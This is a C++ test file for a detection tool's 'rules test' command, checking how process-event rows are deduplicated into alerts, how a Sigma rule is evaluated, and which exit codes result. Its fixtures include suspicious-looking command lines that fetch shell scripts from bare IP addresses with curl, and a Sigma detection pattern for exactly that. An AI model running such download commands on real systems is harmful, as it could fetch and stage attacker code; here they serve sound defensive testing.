// daemoneye-cli rules test FILE, end to end: the real binary
// (DAEMONEYE_CLI_BIN) against a real store (Store::open, append_events,
// insert_alerts). A rule file is loaded as the agent loads it, its query
// runs once on the store, and each row is put to the agent's dedup: `new`
// when no alert with its dedup key was raised within alerts.dedup_window,
// `raised` when one was, `repeat` when an earlier row has its key; a Sigma
// row of an event older than a newly deployed rule reads, `unread`. Exit
// codes as grep's: 0 matched, 1 nothing matched, 2 a rejected rule.

#include "cli_store_fixture.hpp"

#include <airssys/daemoneye/store.hpp>

#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include <sys/stat.h>

#include <ctime>

namespace detest {
namespace {

namespace de = airssys::daemoneye;

bool has(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

class CliRuleTrial : public CliStoreTest {
 protected:
  void SetUp() override {
    CliStoreTest::SetUp();
    if (HasFatalFailure()) return;
    std::vector<de::ProcessEvent> events;
    auto record = [&](std::int64_t pid, const std::string& cmdline) { return curl_process(pid, cmdline, started_); };
    // Ten minutes old: past the two minutes an agent's first scan of a new
    // Sigma rule reads, inside what `rules test` reads (every stored event).
    events.push_back({de::EventKind::start, de::EventSource::ebpf, now_ - 600, record(4301, "curl -s http://10.1.2.3/x.sh")});
    events.push_back({de::EventKind::exec, de::EventSource::ebpf, now_ - 599, record(4301, "curl -s http://10.1.2.3/x.sh")});
    events.push_back({de::EventKind::exec, de::EventSource::ebpf, now_ - 598, record(4302, "curl -s https://example.com/")});
    auto a = store_->append_events(events);
    ASSERT_TRUE(a) << a.error();
    // 4302's alert a minute ago is within the default dedup window (1h);
    // 4301's two hours ago is not.
    std::vector<de::Alert> alerts;
    alerts.push_back({.rule_id = "curl-any", .rule_name = "curl", .severity = de::Severity::low, .tags = {},
                      .row_json = R"({"pid":4302})", .host = "h", .time = now_ - 60,
                      .dedup_key = fmt::format("curl-any|pid=4302|start_time={}", started_)});
    alerts.push_back({.rule_id = "curl-any", .rule_name = "curl", .severity = de::Severity::low, .tags = {},
                      .row_json = R"({"pid":4301})", .host = "h", .time = now_ - 7200,
                      .dedup_key = fmt::format("curl-any|pid=4301|start_time={}", started_)});
    auto i = store_->insert_alerts(alerts);
    ASSERT_TRUE(i) << i.error();
    store_.reset();
  }

  const std::int64_t now_ = static_cast<std::int64_t>(::time(nullptr));
  const std::int64_t started_ = now_ - 700;
};

const char* kNative =
    "id: curl-any\nname: curl\nseverity: low\n"
    "query: SELECT pid, start_time, cmdline FROM process_events WHERE name = 'curl' ORDER BY id\n";

TEST_F(CliRuleTrial, EachRowIsNewAlreadyRaisedOrARepeatAsTheAgentsDedupSays) {
  const fs::path file = rule("curl-any.yaml", kNative);
  Outcome r = cli({"rules", "test", file.string()});
  EXPECT_EQ(r.code, 0) << r.err;
  const std::vector<std::string> lines = lines_in(r.out);
  ASSERT_EQ(lines.size(), 4u) << r.out;
  EXPECT_TRUE(lines[0].starts_with("ALERT")) << lines[0];
  EXPECT_TRUE(has(lines[0], "pid") && has(lines[0], "cmdline")) << lines[0];
  EXPECT_TRUE(lines[1].starts_with("new ")) << lines[1];  // raised 2 h ago: outside the window
  EXPECT_TRUE(has(lines[1], "4301")) << lines[1];
  EXPECT_TRUE(lines[2].starts_with("repeat of row 1 ")) << lines[2];  // the same pid and start_time
  EXPECT_TRUE(lines[3].starts_with("raised 20")) << lines[3];         // raised a minute ago
  EXPECT_TRUE(has(lines[3], "4302")) << lines[3];
  EXPECT_TRUE(has(r.err, "daemoneye-cli: rule curl-any (native): 3 matched, 1 new, 1 already raised, 1 repeating an "
                         "earlier row's dedup key\n"))
      << r.err;

  Outcome j = cli({"rules", "test", file.string(), "--json"});
  EXPECT_EQ(j.code, 0) << j.err;
  const auto doc = nlohmann::json::parse(j.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << j.out;
  ASSERT_EQ(doc.size(), 3u) << j.out;
  EXPECT_EQ(doc[0]["alert"], "new");
  EXPECT_TRUE(doc[0]["raised_at"].is_null());
  EXPECT_EQ(doc[0]["dedup_key"], fmt::format("curl-any|pid=4301|start_time={}", started_));
  EXPECT_EQ(doc[0]["row"]["cmdline"], "curl -s http://10.1.2.3/x.sh");
  EXPECT_EQ(doc[1]["alert"], "repeat");
  EXPECT_EQ(doc[2]["alert"], "raised");
  EXPECT_EQ(doc[2]["raised_at"], now_ - 60);
  EXPECT_EQ(doc[2]["row"]["pid"], 4302);

  // A dedup window shorter than a minute remembers neither alert.
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nalerts: {{ dedup_window: 30s }}\n", db_.string()));
  Outcome short_window = run_cli({"--config", config.string(), "rules", "test", file.string()}, dir_.path());
  EXPECT_EQ(short_window.code, 0) << short_window.err;
  EXPECT_TRUE(has(short_window.err, "3 matched, 2 new, 0 already raised, 1 repeating")) << short_window.err;
}

// The query reads every stored event, but the agent starts a newly
// deployed Sigma rule at the last scan's events (at least the last two
// minutes): a row of an older event is `unread`, never raised. Before, the
// ten-minute-old exec below was called `new`.
TEST_F(CliRuleTrial, ASigmaRuleReadsEveryStoredEventAndSaysWhichTheAgentWouldNotRead) {
  {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    de::ProcessRecord r;
    r.pid = 4303;
    r.parent = 1;
    r.name = "curl";
    r.path = "/usr/bin/curl";
    r.cmdline = "curl -s http://10.9.9.9/y.sh";
    r.start_time = now_ - 40;
    auto a = (*store)->append_events(std::vector<de::ProcessEvent>{
        {de::EventKind::exec, de::EventSource::ebpf, now_ - 30, r}});  // since the last scan (none): read
    ASSERT_TRUE(a) << a.error();
  }
  const fs::path file = rule("curl-ip.yml",
                             "title: curl from a bare IP address\n"
                             "id: 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e\n"
                             "logsource: {product: linux, category: process_creation}\n"
                             "detection:\n"
                             "  tool: {Image|endswith: /curl}\n"
                             "  ip: {CommandLine|re: 'https?://[0-9]+\\.[0-9]+\\.[0-9]+\\.[0-9]+'}\n"
                             "  condition: tool and ip\n");
  Outcome r = cli({"rules", "test", file.string(), "--json"});
  EXPECT_EQ(r.code, 0) << r.err;
  const auto doc = nlohmann::json::parse(r.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << r.out;
  ASSERT_EQ(doc.size(), 2u) << r.out;  // 4301's exec (process_creation: not its start event), 4303's
  EXPECT_EQ(doc[0]["alert"], "unread");
  EXPECT_EQ(doc[0]["row"]["pid"], 4301);
  EXPECT_EQ(doc[0]["dedup_key"], fmt::format("8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e|pid=4301|start_time={}|event_id={}",
                                             started_, doc[0]["row"].value("event_id", -1)));
  EXPECT_EQ(doc[1]["alert"], "new");
  EXPECT_EQ(doc[1]["row"]["pid"], 4303);
  EXPECT_TRUE(has(r.err, "rule 8c1f6f0e-2b7a-4c55-9d1e-3f0a5b6c7d8e (Sigma, every stored event read): 2 matched, 1 new, "
                         "0 already raised, 1 of events older than a newly deployed Sigma rule reads (it starts at the "
                         "last scan's events: never raised)\n"))
      << r.err;
  Outcome table = cli({"rules", "test", file.string()});
  EXPECT_EQ(table.code, 0) << table.err;
  EXPECT_TRUE(has(table.out, "\nunread (older event) ")) << table.out;
}

// More dedup keys raised within the window than rules.max_rows: the rows'
// own keys are looked up, so 4302's alert a minute ago is still found.
// Before, the window's keys were read oldest first under max_rows and the
// newest cut without a word: 4302's row was called `new`.
TEST_F(CliRuleTrial, ARaisedRowIsFoundHoweverManyOtherKeysTheWindowHolds) {
  {
    auto store = de::Store::open({.path = db_});
    ASSERT_TRUE(store) << store.error();
    std::vector<de::Alert> others;
    for (int i = 0; i < 20; ++i)
      others.push_back({.rule_id = "curl-any", .rule_name = "curl", .severity = de::Severity::low, .tags = {},
                        .row_json = "{}", .host = "h", .time = now_ - 600 + i,
                        .dedup_key = fmt::format("curl-any|pid={}|start_time=1", 9000 + i)});
    auto i = (*store)->insert_alerts(others);
    ASSERT_TRUE(i) << i.error();
  }
  const fs::path config = dir_.path() / "config.yaml";
  write_file(config, fmt::format("database: {{ path: {} }}\nrules: {{ max_rows: 5 }}\n", db_.string()));
  const fs::path file = rule("curl-any.yaml", kNative);
  Outcome r = run_cli({"--config", config.string(), "rules", "test", file.string(), "--json"}, dir_.path());
  EXPECT_EQ(r.code, 0) << r.err;
  const auto doc = nlohmann::json::parse(r.out, nullptr, false);
  ASSERT_TRUE(doc.is_array()) << r.out;
  ASSERT_EQ(doc.size(), 3u) << r.out;
  EXPECT_EQ(doc[2]["row"]["pid"], 4302);
  EXPECT_EQ(doc[2]["alert"], "raised") << r.out;
  EXPECT_EQ(doc[2]["raised_at"], now_ - 60);
}

TEST_F(CliRuleTrial, NothingMatchedExitsOne) {
  const fs::path file = rule("none.yaml",
                             "id: none\nname: none\nseverity: low\n"
                             "query: SELECT pid, start_time FROM process_events WHERE name = 'nothing-here'\n");
  Outcome r = cli({"rules", "test", file.string()});
  EXPECT_EQ(r.code, 1) << r.err;
  EXPECT_EQ(r.out, "ALERT  pid  start_time\n");
  EXPECT_TRUE(has(r.err, "rule none (native): 0 matched, 0 new, 0 already raised\n")) << r.err;
  Outcome j = cli({"rules", "test", file.string(), "--json"});
  EXPECT_EQ(j.code, 1) << j.err;
  EXPECT_EQ(j.out, "[]\n");
}

// A rule the agent would reject gives the agent's message (the one `rules
// check` prints) and the code of its category, never 1 ("nothing matched"):
// SQL the guard refuses 4 (as `query`), a file that is not a rule 2.
TEST_F(CliRuleTrial, ARejectedRuleSaysWhatTheAgentWouldAndNeverExitsOne) {
  const fs::path refused = rule("bad.yaml", "id: bad\nname: bad\nseverity: low\nquery: DELETE FROM alerts\n");
  Outcome check = cli({"rules", "check", refused.string()});
  ASSERT_EQ(check.code, 4);
  const std::string why = check.err.substr(0, check.err.find('\n') + 1);
  ASSERT_TRUE(has(why, refused.string() + ":4: ")) << check.err;
  Outcome r = cli({"rules", "test", refused.string()});
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_EQ(r.out, "");
  EXPECT_EQ(r.err, why);

  const fs::path broken = rule("broken.yaml", "id: broken\nname: [unclosed\n");
  Outcome b = cli({"rules", "test", broken.string()});
  EXPECT_EQ(b.code, 2) << b.err;
  EXPECT_TRUE(has(b.err, broken.string() + ":")) << b.err;

  Outcome missing = cli({"rules", "test", (rules_ / "nope.yaml").string()});
  EXPECT_EQ(missing.code, 3) << missing.err;
}

}  // namespace
}  // namespace detest
